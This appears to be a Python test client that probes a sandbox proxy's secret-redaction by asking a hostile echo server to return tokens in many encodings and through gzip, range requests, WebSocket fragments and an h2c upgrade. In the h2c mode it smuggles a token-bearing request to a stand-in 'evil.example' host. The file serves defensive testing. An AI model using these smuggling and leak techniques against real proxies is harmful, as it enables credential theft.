# Runs inside the box for proxy_echo_test.cpp: asks hostile.py's endpoints (through agentbox's
# proxy) for echoes and prints what it got back, decoded. The test judges the output outside the
# box: no real secret (nor the part of one a form carries) may appear, and each form must give
# back the box's own placeholder.
#   hostile_client.py forms | gzip | range | h2c | ws
# and, for model_spend_test.cpp, a model API's WebSocket (the usage the proxy meters):
#   hostile_client.py model-ws N
import base64
import binascii
import gzip
import http.client
import json
import os
import socket
import ssl
import sys
import urllib.parse

CTX = ssl.create_default_context()
PREFIX = bytes([0x00, 0xFF, 0x10, 0x7E, 0x3C, 0x81])


def conn(host):
    return http.client.HTTPSConnection(host, context=CTX, timeout=20)


def get(host, path, headers=None, method="GET", body=None):
    c = conn(host)
    try:
        c.request(method, path, body=body, headers=headers or {})
        r = c.getresponse()
        return r.status, dict(r.getheaders()), r.read()
    except (OSError, http.client.HTTPException) as e:
        return 0, {}, str(e).encode()


def decode(name, value, n):
    """The bytes a form carries where the token was."""
    if name == "raw":
        return value.encode()
    if name.startswith("b64-"):
        _, alpha, k, _ = name.split("-")
        v = value + "=" * (-len(value) % 4)
        d = (base64.urlsafe_b64decode if alpha == "url" else base64.b64decode)(v)
        return d[int(k) : int(k) + n]
    if name == "basic":
        return base64.b64decode(value)[len("x-access-token:") :]
    if name.startswith("hex"):
        return binascii.unhexlify(value)
    if name.startswith("pct"):
        return urllib.parse.unquote_to_bytes(value)
    if name.startswith("json"):
        return json.loads('"' + value + '"').encode("latin-1")
    return b""


def forms():
    tok = os.environ["ECHO_TOKEN"]
    st, _, body = get("echo.example.test", "/forms", {"Authorization": "Bearer " + tok})
    print("status", st)
    show(body.decode(errors="replace"), tok)


def show(text, tok):
    for line in text.splitlines():
        name, _, value = line.partition(" ")
        got = decode(name, value, len(tok))
        # The first and last byte of an unaligned base64 echo keep a few bits of the secret's.
        same = got[1:-1] == tok.encode()[1:-1]
        print("decoded", name, got.decode("latin-1"))
        print("placeholder", name, "yes" if same else "no")


def gzip_mode():
    tok = os.environ["ECHO_TOKEN"]
    # The upstream learns the real token on this request ...
    get("echo.example.test", "/forms", {"Authorization": "Bearer " + tok})
    # ... and hands it back gzipped on requests that carry no credential at all.
    st, h, body = get("echo.example.test", "/forms?honour=1", {"Accept-Encoding": "gzip"})
    print("honour", st, h.get("X-Saw-AE", ""), h.get("Content-Encoding", "identity"))
    if h.get("Content-Encoding") == "gzip":
        body = gzip.decompress(body)
    show(body.decode(errors="replace"), tok)
    st, h, body = get("echo.example.test", "/forms?gzip=1", {"Accept-Encoding": "gzip"})
    print("forced", st)
    if h.get("Content-Encoding") == "gzip":
        body = gzip.decompress(body)
    print("forced-body", body.decode(errors="replace").replace("\n", " | "))
    # The token as the coding's name: the refusal names the coding.
    st, _, body = get("echo.example.test", "/forms?coding=1")
    print("coding", st, body.decode(errors="replace").strip())


def range_mode():
    tok = os.environ["STORE_TOKEN"]
    st, _, _ = get("store.example.test", "/store", method="POST", body=("v=" + tok).encode(),
                   headers={"Content-Type": "text/plain"})
    print("store", st)
    st, _, whole = get("store.example.test", "/store")
    print("whole", st, whole.decode(errors="replace"))
    joined = b""
    for a, b in ((0, 19), (20, 200)):
        st, _, part = get("store.example.test", "/store", {"Range": f"bytes={a}-{b}"})
        print("range", a, st)
        joined += part if st == 206 else b""
    st, _, part = get("store.example.test", "/store", {"If-Range": "x", "Range": "bytes=0-"})
    print("if-range", st)
    st, _, part = get("store.example.test", "/store?partial=1")
    print("partial", st)
    print("joined", joined.decode(errors="replace"))


def tls_socket(host):
    s = socket.create_connection((host, 443), 20)
    return CTX.wrap_socket(s, server_hostname=host)


def read_head(s):
    head = b""
    while b"\r\n\r\n" not in head:
        b = s.recv(1)
        if not b:
            break
        head += b
    return head.decode(errors="replace")


def h2c():
    other = os.environ["OTHER_TOKEN"]
    s = tls_socket("echo.example.test")
    s.sendall(b"GET /h2c HTTP/1.1\r\nHost: echo.example.test\r\nConnection: Upgrade, "
              b"HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n")
    head = read_head(s)
    print("h2c", head.split("\r\n")[0])
    if " 101 " in head:
        s.sendall(("GET /admin HTTP/1.1\r\nHost: evil.example\r\nX-Token: " + other +
                   "\r\n\r\n").encode())
        print("tunnel", s.recv(4096).decode(errors="replace").replace("\r\n", " | "))


def ws_open(path, extra=b"", host="echo.example.test"):
    s = tls_socket(host)
    key = base64.b64encode(os.urandom(16))
    s.sendall(b"GET " + path + b" HTTP/1.1\r\nHost: " + host.encode() + b"\r\nUpgrade: websocket\r\n"
              b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + key +
              b"\r\n" + extra + b"\r\n")
    return s, read_head(s)


def recv_exact(s, n):
    out = b""
    while len(out) < n:
        b = s.recv(n - len(out))
        if not b:
            raise EOFError
        out += b
    return out


def ws_message(s):
    data = b""
    while True:
        h = recv_exact(s, 2)
        n = h[1] & 0x7F
        data += recv_exact(s, int.from_bytes(recv_exact(s, 2), "big") if n == 126 else n)
        if h[0] & 0x80:
            return data


def frame(opcode, fin, payload, masked=True):
    mask = os.urandom(4) if masked else b""
    body = bytes(b ^ mask[i % 4] for i, b in enumerate(payload)) if masked else payload
    return bytes([(0x80 if fin else 0) | opcode, (0x80 if masked else 0) | len(payload)]) + mask + body


def ws():
    tok, other = os.environ["ECHO_TOKEN"], os.environ["OTHER_TOKEN"]
    print("other=" + other)
    s, head = ws_open(b"/ws-auth", b"Authorization: Bearer " + tok.encode() +
                      b"\r\nSec-WebSocket-Extensions: permessage-deflate\r\n")
    print("ws", head.split("\r\n")[0])
    got = ws_message(s).decode(errors="replace")
    print("ws-auth", got, "yes" if got == tok else "no")
    s.sendall(frame(1, True, b"harmless"))
    print("ws-echo", ws_message(s).decode(errors="replace"))
    half = len(other) // 2
    # An off-scope placeholder in two fragments, two writes.
    s.sendall(frame(1, False, b"x=" + other[:half].encode()))
    s.sendall(frame(0, True, other[half:].encode()))
    # The first fragment alone holds half a placeholder (worthless) and may be echoed; the
    # connection must end once the rest arrives.
    try:
        for _ in range(3):
            print("ws-offscope echoed", ws_message(s).decode(errors="replace"))
    except (EOFError, OSError):
        print("ws-offscope closed")
    s, head = ws_open(b"/ws-auth", b"Authorization: Bearer " + tok.encode() + b"\r\n")
    ws_message(s)
    s.sendall(frame(1, True, b"unmasked-hello", masked=False))
    try:
        print("ws-unmasked echoed", ws_message(s).decode(errors="replace"))
    except (EOFError, OSError):
        print("ws-unmasked closed")


def model_ws():
    """The Responses API's WebSocket mode: `response.create` out, `response.completed` back, N
    times; prints each one's model and input tokens, then how many came back before the
    connection ended (a spent budget ends it: a WebSocket has no status to answer with)."""
    auth = b"Authorization: Bearer " + os.environ["OPENAI_KEY"].encode() + b"\r\n"
    s, head = ws_open(b"/v1/responses", auth, host="openai.model.test")
    print("ws", head.split("\r\n")[0])
    done = 0
    for _ in range(int(sys.argv[2])):
        try:
            s.sendall(frame(1, True, json.dumps({"type": "response.create",
                                                 "model": "mock-gpt"}).encode()))
            r = json.loads(ws_message(s))["response"]
            print("ws-usage", r["model"], r["usage"]["input_tokens"])
            done += 1
        except (EOFError, OSError):
            break
    print("ws-closed after", done)


{"forms": forms, "gzip": gzip_mode, "range": range_mode, "h2c": h2c, "ws": ws,
 "model-ws": model_ws}[sys.argv[1]]()
